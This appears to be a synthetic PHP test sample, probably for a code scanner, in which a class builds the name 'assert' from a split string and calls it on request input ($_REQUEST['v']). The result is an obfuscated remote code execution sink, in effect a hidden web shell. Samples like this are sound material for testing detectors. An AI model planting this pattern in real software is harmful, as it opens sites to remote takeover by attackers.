<?php
// synthetic: a method calls its argument through a variable holding a dangerous name
class Helper {
    function run($x) {
        $parts = explode('|', 'a|b|assert');
        $f = $parts[2];
        $f($x);
    }
}
$h = new Helper();
$h->run($_REQUEST['v']);
